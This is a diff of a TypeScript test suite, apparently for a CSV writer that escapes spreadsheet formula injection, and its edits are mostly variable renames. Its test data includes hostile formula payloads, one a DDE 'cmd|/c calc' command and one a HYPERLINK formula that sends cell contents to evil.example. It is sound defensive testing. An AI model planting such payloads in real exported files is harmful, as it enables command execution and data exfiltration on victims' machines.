@@ -23,39 +23,40 @@ const LEADING_TEXTS = [
   ...['x;', 'x; ', 'x;;', 'x\t', 'x\n', 'x\r', 'a "b";', 'x;\uFEFF"', ';', ';\n'],
 ];
 const FORMULA_BODIES = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
-const PAYLOADS = FORMULA_PREFIXES.flatMap((start, at) =>
+const PAYLOADS = FORMULA_PREFIXES.flatMap((start, position) =>
   LEADING_TEXTS.map(
-    (before, index) => `${before}${start}${FORMULA_BODIES[(at + index) % FORMULA_BODIES.length] ?? ''}`,
+    (before, index) => `${before}${start}${FORMULA_BODIES[(position + index) % FORMULA_BODIES.length] ?? ''}`,
   ),
 );
 
 /** The cells of a text as a spreadsheet parses it: quotes count only at the beginning of a cell. */
 function cellsOf(text: string, separator: string): string[] {
   const cells: string[] = [];
-  let [cell, at] = ['', 0];
-  while (at < text.length) {
-    if (cell === '' && text[at] === '"') {
-      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
-        if (text[at] === '"') at++;
-        cell += text[at] ?? '';
+  let [cell, position] = ['', 0];
+  while (position < text.length) {
+    if (cell === '' && text[position] === '"') {
+      for (position++; position < text.length && !(text[position] === '"' && text[position + 1] !== '"'); position++) {
+        if (text[position] === '"') position++;
+        cell += text[position] ?? '';
       }
-      at++;
-      while (at < text.length && text[at] !== separator && !'\r\n'.includes(text[at] ?? '')) cell += text[at++] ?? '';
+      position++;
+      while (position < text.length && text[position] !== separator && !'\r\n'.includes(text[position] ?? ''))
+        cell += text[position++] ?? '';
     }
-    const nextText = text[at] ?? '\n';
+    const nextText = text[position] ?? '\n';
     if (nextText === separator || nextText === '\r' || nextText === '\n') {
       cells.push(cell);
       cell = '';
     } else cell += nextText;
-    at++;
+    position++;
   }
   return [...cells, cell];
 }
 
-const LEADING_BLANKS = /^[\s\p{Z}\p{Cc}\p{Cf}\u2800\u3164"]+/u;
+const LEADING_BLANKS_PATTERN = /^[\s\p{Z}\p{Cc}\p{Cf}\u2800\u3164"]+/u;
 /** Whether a spreadsheet could take a cell for a formula, also behind spaces and double quotes. */
 const isLive = (cell: string) =>
-  FORMULA_PREFIXES.includes(cell.replace(LEADING_BLANKS, '').slice(0, 1)) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
+  FORMULA_PREFIXES.includes(cell.replace(LEADING_BLANKS_PATTERN, '').slice(0, 1)) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
 const findLiveCells = (line: string) =>
   [',', ';', '\t'].flatMap((separator) => cellsOf(line, separator).filter(isLive));
 
@@ -82,7 +83,7 @@ describe('a row', () => {
     ['a list with a dash', 'Ann; Bob - clerk', '"Ann; Bob - clerk"'],
     ['a negative amount', '-12.50', '-12.50'],
     ['a number of a telephone', '+15550147', '+15550147'],
-  ])('escapes %s without loss', (_name, cell, written) => expect(csvRow([cell])).toBe(`${written}\r\n`));
+  ])('escapes %s without loss', (_name, cell, writtenText) => expect(csvRow([cell])).toBe(`${writtenText}\r\n`));
 });
 
 it('leaves no payload active in any cell, with commas, semicolons and tabs as separators', () => {
@@ -107,7 +108,7 @@ it('leaves no payload active in any cell, with commas, semicolons and tabs as se
 it('writes every text so that it can be restored', () => {
   const alphabet = [
     ...FORMULA_PREFIXES,
-    ...LEADING_TEXTS.filter((one) => one !== ''),
+    ...LEADING_TEXTS.filter((candidate) => candidate !== ''),
     ';',
     ',',
     '1',
